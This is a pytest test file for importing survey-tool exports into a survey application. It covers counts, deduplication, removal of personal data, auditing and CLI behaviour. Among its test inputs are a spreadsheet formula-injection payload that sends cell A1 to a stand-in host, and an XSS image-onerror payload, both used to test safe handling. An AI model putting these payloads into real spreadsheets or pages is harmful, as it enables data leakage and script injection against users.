"""Importing responses from Google Forms, Microsoft Forms and SurveyMonkey exports."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from engage.audit.models import AuditEvent
from engage.clock import utcnow
from engage.errors import ValidationError
from engage.extensions import db
from engage.imports.responses import (
    apply_responses,
    prepare_responses,
    preview_responses,
    recheck_responses,
)
from engage.surveys.models import Answer, QuestionKind, Response, ResponseSource
from engage.surveys.tool_import import Tool, parse_day, split_choices

from .helpers import make_survey, question

FIXTURES = Path(__file__).parent.parent / "fixtures" / "surveys"
FILES = [
    f"{tool}.{ext}"
    for tool in ("google", "microsoft", "surveymonkey")
    for ext in ("csv", "xlsx")
]


def _import(survey, name: str, **kwargs):
    with (FIXTURES / name).open("rb") as source:
        preview = apply_responses(
            survey, source, name, mapping=None, actor="test", now=utcnow(), **kwargs
        )
    db.session.commit()
    return preview


def _answers(survey, kind: QuestionKind) -> list[Answer]:
    q = question(survey, kind)
    return list(db.session.scalars(select(Answer).where(Answer.question_id == q.id)))


@pytest.mark.parametrize("name", FILES)
def test_each_tool_export_imports_the_right_counts(name: str) -> None:
    survey = make_survey()
    preview = _import(survey, name)
    assert preview.tool == Tool(name.split(".")[0]).label
    assert (preview.created, preview.unchanged, preview.error_count) == (6, 0, 0)
    responses = list(
        db.session.scalars(select(Response).order_by(Response.submitted_on))
    )
    assert len(responses) == 6
    assert {r.source for r in responses} == {ResponseSource.IMPORT}
    assert [r.submitted_on for r in responses][:2] == [date(2024, 3, 15)] * 2
    assert responses[-1].submitted_on == date(2024, 3, 20)
    # Blanks stay blank: one single choice, one Likert, one rating, one number
    # and one comment are left empty; one respondent ticks nothing.
    single = _answers(survey, QuestionKind.SINGLE_CHOICE)
    assert len(single) == 5
    ticked = _answers(survey, QuestionKind.MULTIPLE_CHOICE)
    assert len(ticked) == 8
    labels = {
        c.id: c.label for c in question(survey, QuestionKind.MULTIPLE_CHOICE).choices
    }
    assert (
        sorted(labels[a.choice_id] for a in ticked).count("Walk-in centre, urgent care")
        == 1
    )
    assert sorted(
        a.number for a in _answers(survey, QuestionKind.LIKERT_AGREEMENT)
    ) == [2, 3, 4, 4, 5]
    assert sorted(a.number for a in _answers(survey, QuestionKind.RATING_0_10)) == [
        4,
        7,
        8,
        9,
        10,
    ]
    assert sorted(a.number for a in _answers(survey, QuestionKind.NUMBER)) == [
        0,
        2.5,
        3,
        5,
        12,
    ]
    comments = {a.text for a in _answers(survey, QuestionKind.LONG_TEXT)}
    assert '=HYPERLINK("http://x/?"&A1,"x")' in comments
    assert len(comments) == 5


@pytest.mark.parametrize("name", FILES)
def test_importing_the_same_file_twice_adds_nothing(name: str) -> None:
    survey = make_survey()
    _import(survey, name)
    again = _import(survey, name)
    assert (again.created, again.unchanged) == (0, 6)
    assert db.session.scalar(select(func.count()).select_from(Response)) == 6
    assert (
        db.session.scalar(select(func.count()).select_from(Answer))
        == 5 + 8 + 5 + 5 + 5 + 5
    )


@pytest.mark.parametrize("name", FILES)
def test_imported_responses_keep_no_email_name_or_ip(name: str) -> None:
    survey = make_survey()
    preview = _import(survey, name)
    stored = " ".join(
        str(v)
        for row in db.session.execute(select(Response.__table__)).all()
        + db.session.execute(select(Answer.__table__)).all()
        for v in row
    )
    for personal in ("ann@example.org", "Ann", "192.0.2.1", "Smith"):
        assert personal not in stored
    assert any("mail" in d.lower() for d in preview.dropped)
    assert all(r.member_id is None for r in db.session.scalars(select(Response)))


@pytest.mark.parametrize("name", FILES)
def test_an_upload_awaiting_confirmation_keeps_no_email_name_or_ip(
    name: str, cast
) -> None:  # type: ignore[no-untyped-def]
    survey = make_survey()
    content = (FIXTURES / name).read_bytes()
    preview, pending = prepare_responses(
        survey, name, content, actor=cast["officer"], now=utcnow()
    )
    assert pending is not None
    for personal in (b"ann@example.org", b"Ann", b"192.0.2.1", b"Smith"):
        assert personal not in pending.content
    # The copy reads as the upload did: same tool, columns and rows.
    again = recheck_responses(survey, pending, preview.mapping)
    assert (again.tool, again.columns, again.rows_read) == (
        preview.tool,
        preview.columns,
        preview.rows_read,
    )
    assert [r.row for r in again.rows] == [r.row for r in preview.rows]


def test_a_bad_row_imports_nothing_and_names_the_row() -> None:
    survey = make_survey()
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8").splitlines()
    text[2] = text[2].replace("Website", "<img src=x onerror=alert(1)>", 1)
    text[4] = text[4].replace(",7,", ",eleven,", 1)
    content = ("\n".join(text) + "\n").encode()
    preview = preview_responses(survey, io.BytesIO(content), "broken.csv")
    assert not preview.is_valid
    assert [e.row for e in preview.errors] == [3, 5]
    assert "<img src=x onerror=alert(1)>" in preview.errors[0].message
    with pytest.raises(ValidationError, match="row 3"):
        apply_responses(
            survey,
            io.BytesIO(content),
            "broken.csv",
            mapping=None,
            actor="t",
            now=utcnow(),
        )
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


def test_an_import_is_audited_without_personal_data() -> None:
    survey = make_survey()
    _import(survey, "microsoft.csv")
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.entity_type == "survey_response")
    ).one()
    assert (
        event.summary
        == "import responses (Microsoft Forms): 6 added, 0 already imported"
    )


def test_a_column_can_be_left_out_of_the_mapping() -> None:
    survey = make_survey()
    with (FIXTURES / "google.csv").open("rb") as source:
        first = preview_responses(survey, source, "google.csv")
    mapping = dict(first.mapping)
    comments = question(survey, QuestionKind.LONG_TEXT).id
    key = next(k for k, v in mapping.items() if v == comments)
    mapping[key] = None
    with (FIXTURES / "google.csv").open("rb") as source:
        apply_responses(
            survey, source, "google.csv", mapping=mapping, actor="t", now=utcnow()
        )
    assert _answers(survey, QuestionKind.LONG_TEXT) == []
    assert len(_answers(survey, QuestionKind.SINGLE_CHOICE)) == 5


def test_an_unknown_file_layout_is_refused_clearly() -> None:
    survey = make_survey()
    preview = preview_responses(survey, io.BytesIO(b"name,answer\nx,y\n"), "other.csv")
    assert preview.file_error is not None
    assert "Google Forms" in preview.file_error


@pytest.mark.parametrize(
    ("text", "dayfirst", "expected"),
    [
        ("05/03/2024 10:22:13", True, date(2024, 3, 5)),
        ("3/5/24 10:22:13", False, date(2024, 3, 5)),
        ("2024-03-05 10:22:13", True, date(2024, 3, 5)),
        ("2024/03/05 10:22:13 AM GMT", False, date(2024, 3, 5)),
        ("31/02/2024", True, None),
        ("soon", True, None),
    ],
)
def test_tool_timestamps_are_read_as_days(
    text: str, dayfirst: bool, expected: date | None
) -> None:
    assert parse_day(text, dayfirst=dayfirst) == expected


def test_ticked_options_split_even_with_the_separator_inside_an_option() -> None:
    labels = ["GP surgery", "Walk-in centre, urgent care", "A&E"]
    assert split_choices("Walk-in centre, urgent care, A&E", labels, ", ") == (
        ["Walk-in centre, urgent care", "A&E"],
        [],
    )
    assert split_choices("GP surgery, Dentist", labels, ", ") == (
        ["GP surgery"],
        ["Dentist"],
    )


def test_cli_imports_responses_with_a_dry_run_first(app) -> None:
    survey = make_survey()
    runner = app.test_cli_runner()
    path = str(FIXTURES / "surveymonkey.xlsx")
    dry = runner.invoke(args=["import", "responses", str(survey.id), path, "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "File from: SurveyMonkey" in dry.output
    assert "To add: 6" in dry.output
    assert "Dry run: nothing was saved." in dry.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0
    done = runner.invoke(args=["import", "responses", str(survey.id), path])
    assert done.exit_code == 0, done.output
    assert "Imported responses: 6 added, 0 already imported." in done.output
    again = runner.invoke(args=["import", "responses", str(survey.id), path])
    assert "0 added, 6 already imported" in again.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 6


def test_cli_map_leaves_a_column_out(app) -> None:
    survey = make_survey()
    result = app.test_cli_runner().invoke(
        args=[
            "import",
            "responses",
            str(survey.id),
            str(FIXTURES / "google.csv"),
            "--map",
            "Any other comments?=-",
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Column “Any other comments?” → not imported" in result.output
    assert _answers(survey, QuestionKind.LONG_TEXT) == []


def test_cli_refuses_a_broken_file_and_saves_nothing(app, tmp_path) -> None:
    survey = make_survey()
    broken = tmp_path / "broken.csv"
    text = (FIXTURES / "google.csv").read_text(encoding="utf-8")
    broken.write_text(text.replace(",Agree,", ",Maybe,", 1), encoding="utf-8")
    result = app.test_cli_runner().invoke(
        args=["import", "responses", str(survey.id), str(broken)]
    )
    assert result.exit_code == 1
    assert "Row 2:" in result.output
    assert db.session.scalar(select(func.count()).select_from(Response)) == 0


@pytest.mark.parametrize("tool", ["google", "microsoft", "surveymonkey"])
def test_the_csv_and_xlsx_of_one_export_are_the_same_responses(tool: str) -> None:
    survey = make_survey()
    _import(survey, f"{tool}.csv")
    again = _import(survey, f"{tool}.xlsx")
    assert (again.created, again.unchanged) == (0, 6)
